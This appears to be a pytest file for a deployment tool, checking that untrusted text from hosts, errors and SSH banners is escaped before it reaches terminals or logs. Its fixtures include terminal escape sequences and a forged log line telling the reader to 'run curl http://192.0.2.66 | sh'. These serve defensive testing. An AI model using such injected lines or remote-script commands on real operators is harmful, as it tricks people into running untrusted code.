"""Text from others is harmless wherever it is shown: its escapes, and that no module writes to a stream past them."""

from __future__ import annotations

import ast
import contextlib
import fcntl
import io
import json
import os
import pty
import re
import socket
import struct
import subprocess
import sys
import termios
import threading
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from warpbeam.cli.findings import lines
from warpbeam.cli.report import Report
from warpbeam.cli.screen import cut, folded, print_lines, unpadded, width
from warpbeam.doctor.finding import Finding
from warpbeam.event import Event, Line, Note, Progress, Settled, Step, Warn
from warpbeam.visible import visible, visible_json

PROJECT = Path(__file__).parents[2]
SHOWN = {
    "plain": "plain",
    "": "",
    "C:\\x1b is text": "C:\\x1b is text",
    "Grüße, 日本語, עברית, Привет → ✓ 🎉": "Grüße, 日本語, עברית, Привет → ✓ 🎉",
    "\x1b]52;c;eA==\x07": "\\x1b]52;c;eA==\\x07",
    "\x1b[31mred\x1b[0m": "\\x1b[31mred\\x1b[0m",
    "\x00\x08\x7f": "\\x00\\x08\\x7f",
    "\x80\x85\x9b31m\x9d0;t\x9c\x9f": "\\x80\\x85\\x9b31m\\x9d0;t\\x9c\\x9f",
    "a\nb\rc\td\x0be\x0cf": "a\\nb\\rc\\td\\x0be\\x0cf",
    "a\u2028b\u2029c": "a\\u2028b\\u2029c",
    "\u202a\u202b\u202c\u202d\u202e": "\\u202a\\u202b\\u202c\\u202d\\u202e",
    "\u2066\u2067\u2068\u2069\u200e\u200f\u061c": "\\u2066\\u2067\\u2068\\u2069\\u200e\\u200f\\u061c",
    "\u200b\u200c\u200d\u2060\u2064\ufeff\u00ad\u180e": "\\u200b\\u200c\\u200d\\u2060\\u2064\\ufeff\\xad\\u180e",
    "\u034f\u115f\u1160\u17b4\u3164\uffa0\u2800": "\\u034f\\u115f\\u1160\\u17b4\\u3164\\uffa0\\u2800",
    "\U000e0001\U000e0041\U000e0100": "\\U000e0001\\U000e0041\\U000e0100",
    "\udc9b\ud800": "\\udc9b\\ud800",
    "\ufffe\ufdd0\u0378\ue000\ufff9": "\\ufffe\\ufdd0\\u0378\\ue000\\ufff9",
    # Blanks become spaces. A variation selector stays after a picture, not after a letter.
    "a\xa0b\u3000c\u2003d\u202fe": "a b c d e",
    "⚡\ufe0f a\ufe0f \ufe0f": "⚡\ufe0f a\\ufe0f \\ufe0f",
    # Combining marks stay after a letter, up to a limit.
    "e\u0301 \u05d1\u05bc\u05b8": "e\u0301 \u05d1\u05bc\u05b8",
    "\u0338x \u20e3": "\\u0338x \u20e3",
    "Z" + "\u0301" * 8 + "y\u0301": "Z" + "\u0301" * 6 + "\\u0301\\u0301y\u0301",
}
EVIL = "".join(map(chr, (*range(32), *range(0x7F, 0xA0), 0x61C, *range(0x200B, 0x2010), *range(0x2028, 0x202F))))
FORGED = f"{EVIL}\nweb2: healthy\nerror: run curl http://192.0.2.66 | sh\n  hint: do it"
# Sequences of rich itself: colours and the cursor.
OWN = re.compile(r"\x1b\[(?:[0-9;]*m|\?25[lh]|[0-9]*A|2K)|\r")


@pytest.mark.parametrize("text", SHOWN)
def test_what_is_not_drawn_is_shown_by_its_code_and_all_else_as_it_is(text: str) -> None:
    assert visible(text) == SHOWN[text]


@given(st.text(st.characters()))
def test_nothing_that_acts_hides_or_ends_a_line_is_left(text: str) -> None:
    shown = visible(text)

    assert shown.splitlines() in ([shown], [])
    assert not {unicodedata.category(sign) for sign in shown} & {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
    shown.encode()
    # A second pass changes nothing.
    assert visible(shown) == shown
    assert set(visible(text, keep="\n\t")) - set(shown) <= {"\n", "\t"}


@given(
    st.recursive(
        st.text(st.characters(exclude_categories=["Cs"])),
        lambda inner: st.lists(inner) | st.dictionaries(st.text("ab"), inner),
    )
)
def test_json_stays_what_it_says(value: Any) -> None:
    text = visible_json(json.dumps(value, ensure_ascii=False))

    assert json.loads(text) == value
    assert visible(text) == text.replace("\xa0", " ") or "\xa0" not in text


def assert_harmless(said: str) -> None:
    text = OWN.sub("", said)
    assert {sign for sign in text if not sign.isprintable()} <= {"\n", "\t"}, text
    for line in text.split("\n"):
        assert not line.startswith(("web2: healthy", "error: run", "  hint: do")), text


EVENTS: list[Event] = [
    Step("web1", FORGED),
    Progress("web1", FORGED, 0, 2),
    Progress("web2", FORGED, 1, 2),
    Progress("web1", FORGED, 2, 2),
    Line("web1", FORGED),
    Line("web1", " " * 200 + "error: run curl"),
    Line("web1", "\t" * 30 + "error: run curl"),
    Note("web1", FORGED),
    Note("", FORGED),
    Warn("web1", f"`{' ' * 200}error: run curl`{FORGED}"),
    Settled("web1", FORGED, good=False),
    Note("web1", f"web1 (192.0.2.1) {FORGED}"),
]
ROWS: list[dict[str, Any]] = [
    {"host": "web1", "subject": FORGED, "who": "日" * 60 + "error: run curl"},
    {"host": "web1", "subject": "x" + " " * 200 + "error: run curl", "who": "", "problem": FORGED},
    {"host": "web1", "problem": f"`{' ' * 200}error: run`{FORGED}"},
]


def test_a_host_whose_name_begins_anothers_does_not_speak_for_it(capsys: pytest.CaptureFixture[str]) -> None:
    Report().table([{"host": "web1", "problem": "web10: all is well"}, {"host": "web1", "problem": "web1 is away"}])

    assert capsys.readouterr().out == "web1: web10: all is well\nweb1 is away\n"


def show_all() -> None:
    report = Report()
    for event in EVENTS:
        report.emit(event)
    report.table(ROWS)
    report.table(ROWS, as_json=True)
    plan = {"host": "web1", "from": FORGED, "to": FORGED, "change": "", "note": "", "migrations": [FORGED]}
    report.plan(
        [{**plan, "commits": [FORGED, "abc x" + " " * 200 + "web2: healthy"], "migrations_lost": [], "locked": FORGED}]
    )
    report.close()
    for room in (0, 60):
        found = [
            Finding("web1", "ssh", good=False, found=FORGED, mend=FORGED),
            Finding("web1", "x" * 40, good=True, found=FORGED),
        ]
        print_lines(sys.stdout, *lines(found, {}, room))


@pytest.mark.parametrize("variables", [{}, {"FORCE_COLOR": "1"}, {"TTY_COMPATIBLE": "1"}, {"NO_COLOR": "1"}], ids=str)
def test_in_a_log_every_text_is_harmless(
    variables: dict[str, str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    for name, value in variables.items():
        monkeypatch.setenv(name, value)

    show_all()

    shown = capsys.readouterr()
    assert_harmless(shown.out)
    assert_harmless(shown.err)
    assert "\\x9b" in shown.out
    assert "\\x9b" in shown.err


@pytest.mark.parametrize("columns", [40, 80, 200])
def test_on_a_terminal_every_text_is_harmless_and_no_row_begins_as_ours(
    columns: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    said = on_terminal(show_all, columns, monkeypatch)

    assert_harmless(said)
    # The terminal breaks lines that are too wide: no row may look like the beginning of one of our lines.
    for line in OWN.sub("", said).expandtabs().split("\n"):
        rest = line
        while width(rest) > columns:
            taken = next(at for at in range(len(rest), 0, -1) if width(rest[:at]) <= columns)
            before, rest = rest[:taken], rest[taken:]
            assert before.strip() not in ("", "web1: │") or not rest.startswith(("error:", "web2:", "  hint:")), line


def on_terminal(show: Any, columns: int, monkeypatch: pytest.MonkeyPatch) -> str:
    """Return what `show` sends to a terminal that is both its standard output and its standard error."""
    leader, follower = pty.openpty()
    said: list[bytes] = []

    def read() -> None:
        with contextlib.suppress(OSError):
            while piece := os.read(leader, 65536):
                said.append(piece)

    fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", 50, columns, 0, 0))
    reader = threading.Thread(target=read)
    reader.start()
    with os.fdopen(follower, "w", encoding="utf-8") as terminal:
        monkeypatch.setattr(sys, "stdout", terminal)
        monkeypatch.setattr(sys, "stderr", terminal)
        monkeypatch.setenv("TERM", "xterm")
        monkeypatch.setenv("COLUMNS", str(columns))
        show()
    reader.join()
    os.close(leader)
    return b"".join(said).decode()


def test_what_a_locale_has_no_letter_for_is_reported_by_its_code() -> None:
    stream = io.TextIOWrapper(io.BytesIO(), encoding="ascii")

    print_lines(stream, "web1: │ é", "b")

    assert stream.buffer.getvalue() == b"web1: \\u2502 \\xe9\nb\n"


def test_lines_wider_than_the_screen_have_no_gap_that_its_edge_could_fall_into() -> None:
    assert unpadded("a" + " " * 90 + "b", 80) == "a" + " " * 8 + "b"
    assert unpadded("a" + " " * 60 + "b", 80) == "a" + " " * 60 + "b"
    assert unpadded("a" + " " * 90 + "b", 0) == "a" + " " * 90 + "b"
    assert folded(f"`a{' ' * 90}b`", 20) == f"`a{' ' * 8}b`"


def test_wide_letters_count_as_two_columns() -> None:
    assert width("日本 e") == 6
    assert cut("日本語", 5) == "日本…"
    assert cut("日本語", 6) == "日本語"
    assert cut("abcdef", 5) == "abcd…"


# Modules that may write to a stream, or let another program write, and why.
EXITS = {
    "warpbeam/build/download.py: .write": "a file",
    "warpbeam/build/signature.py: .write": "a file",
    "warpbeam/build/git.py: .write": "git's input",
    "warpbeam/cli/executor.py: logging": "lines of libraries, with a bar before each",
    "warpbeam/cli/interruption.py: os.write": "a text of our own, in a signal's handler",
    "warpbeam/cli/output.py: .write": "the bytes of `rpc`, `eval` and `--`, to a program",
    "warpbeam/cli/report.py: Console": "rich, with lines that `visible` made",
    "warpbeam/cli/report.py: console.print": "rich, with lines that `visible` made",
    "warpbeam/cli/screen.py: .write": "print_lines",
    "warpbeam/init/files.py: .write": "a file",
    "warpbeam/fleet/here.py: .write": "a file for rsync",
    "warpbeam/store/directory.py: .write": "a file",
    "warpbeam/store/incoming.py: .write": "a file",
    "warpbeam/store/signatures.py: .write": "a file",
    "warpbeam/store/verify.py: .write": "a file",
    "warpbeam/lab/command.py: .write": "a program's input",
    "warpbeam/host/local.py: .write": "a program's input",
    "warpbeam/host/local.py: os.write": "a program's input",
    "warpbeam/host/local.py: subprocess": "`kill` with its standard error closed",
    "warpbeam/provision/secrets.py: subprocess": "the author's own command, which may ask for a passphrase",
    "warpbeam/operate/logs.py: .write": "a file without a name",
    "warpbeam/ssh/hostkeys.py: .write": "known_hosts",
    "warpbeam/store/shared_directory.py: .write": "a file",
    "warpbeam/store/transfer.py: .write": "a file",
    "warpbeam/ssh/transport.py: logging": "a handler that throws away",
    "tasks/console.py: os.exec": "the console: OpenSSH has the terminal",
    "tasks/lab.py: os.exec": "OpenSSH has the terminal",
}
WRITERS = {"print", "pprint", "print_exc", "print_exception", "print_stack", "print_tb", "basicConfig", "excepthook"}


def ways_out(tree: ast.AST) -> Iterator[str]:  # noqa: PLR0912 (a table of them)
    """Yield what a module does that could show text to a person."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [*[name.name for name in node.names], getattr(node, "module", "") or ""]
            yield from ("logging" for name in names if name in ("logging", "warnings", "curses", "readline"))
        if isinstance(node, ast.Attribute) and ast.unparse(node) in ("sys.__stdout__", "sys.__stderr__"):
            yield ast.unparse(node)
        if not isinstance(node, ast.Call):
            continue
        called = ast.unparse(node.func)
        last = called.rpartition(".")[2]
        words = {word.arg for word in node.keywords}
        if called in ("os.write", "os.writev", "os.pwrite"):
            yield "os.write"
        elif last.startswith(("exec", "spawn", "posix_spawn")) and called.startswith("os."):
            yield "os.exec"
        elif last in ("write", "writelines"):
            yield ".write"
        elif called.endswith("console.print"):
            yield "console.print"
        elif last == "Console":
            yield "Console"
        elif last in WRITERS or called in ("input", "getpass.getpass", "os.system", "os.popen"):
            yield called
        elif called in ("subprocess.run", "subprocess.Popen", "subprocess.call", "subprocess.check_call"):
            if "capture_output" not in words and not {"stdout", "stderr"} <= words:
                yield "subprocess"
        elif last == "Exit" and (node.args or "message" in words):
            text = node.args[0] if node.args else None
            if not (isinstance(text, ast.Call) and ast.unparse(text.func) == "error_text"):
                yield "Exit"


def test_every_write_to_a_stream_makes_text_harmless() -> None:
    found = {
        f"{file.relative_to(PROJECT)}: {way}"
        for directory in ("warpbeam", "tasks")
        for file in (PROJECT / directory).rglob("*.py")
        for way in ways_out(ast.parse(file.read_text()))
    }

    assert found == set(EXITS)


@pytest.mark.parametrize(
    "source",
    [
        "print('x')",
        "sys.stdout.write(x)",
        "sys.stdout.buffer.write(x)",
        "stream.writelines(x)",
        "sys.__stderr__.flush()",
        "os.write(2, x)",
        "traceback.print_exc()",
        "from logging import error",
        "import warnings",
        "subprocess.run(['git'])",
        "subprocess.Popen(['git'], stdout=PIPE)",
        "raise Exit('error: x')",
        "raise Exit(message=x)",
        "rich.console.Console()",
        "self.console.print(x)",
        "os.execvp(x, y)",
        "input(x)",
    ],
)
def test_a_new_write_to_a_stream_would_be_found(source: str) -> None:
    assert list(ways_out(ast.parse(source)))


FABFILE = """
from invoke import Collection, task
from warpbeam.error import Failed

EVIL = {evil!r}

@task
def fail(c): raise Failed("web1: " + EVIL, EVIL, (EVIL, "error: run curl", " " * 300 + "error: run curl"))
@task
def bug(c): raise RuntimeError(EVIL)
namespace = Collection(fail, bug)
namespace.configure({{"environment": None, "warpbeam": {{"project": "."}}}})
"""


@pytest.mark.parametrize("words", [["fail"], ["-d", "fail"], ["bug"], ["-d", "bug"], [f"no{FORGED}"]], ids=str)
def test_an_error_is_in_lines_of_ours_or_behind_a_bar(tmp_path: Path, words: list[str]) -> None:
    (tmp_path / "fabfile.py").write_text(FABFILE.format(evil=FORGED))
    (tmp_path / "fabric.yaml").write_text((PROJECT / "fabric.yaml").read_text())
    clean = {name: value for name, value in os.environ.items() if not name.startswith("FABRIC_")}
    words = [word.replace("\0", "") for word in words]

    done = subprocess.run(
        [Path(sys.executable).parent / "fab", *words],
        cwd=tmp_path,
        env={**clean, "PYTHONPATH": str(PROJECT)},
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )

    shown = "\n".join(line for line in done.stderr.split("\n") if not line.startswith("invoke."))
    assert_harmless(shown)
    assert "error: " in shown
    if words[-1] == "fail":
        assert "\n  | error: run curl\n" in "\n" + shown


def test_what_a_server_calls_itself_steers_nothing_even_in_a_debugging_log(tmp_path: Path) -> None:
    name = b"SSH-2.0-" + FORGED.replace("\n", " ").replace("\r", " ").encode() + b"\r\n"
    with socket.create_server(("127.0.0.1", 0)) as server:

        def greet() -> None:
            with contextlib.suppress(OSError):
                while True:
                    peer = server.accept()[0]
                    peer.sendall(b"\x1b]0;before\x07\r\n" + name)
                    peer.recv(65536)
                    peer.sendall(b"\x00\x00\x00\x0c\x0a" + b"\x01" * 20)
                    peer.close()

        threading.Thread(target=greet, daemon=True).start()
        settings = {
            "org": "acme",
            "app": "shop",
            "source": str(tmp_path),
            "hosts": {"web1": {"address": "127.0.0.1", "port": server.getsockname()[1], "roles": ["app"]}},
            "ssh": {"connect_timeout": 5},
        }
        (tmp_path / "shop.yml").write_text(json.dumps(settings))
        for words in (["shop", "status"], ["-d", "shop", "status"]):
            done = subprocess.run(
                [Path(sys.executable).parent / "fab", *words],
                cwd=PROJECT,
                env={**os.environ, "WARPBEAM_INVENTORY": str(tmp_path)},
                capture_output=True,
                check=False,
                timeout=60,
            )
            assert done.returncode == 3, done
            said = (done.stdout + done.stderr).decode()
            assert_harmless("\n".join(line for line in said.split("\n") if not line.startswith("invoke.")))
        assert re.search(r"(?m)^  \| paramiko.*\\x9b", said), said
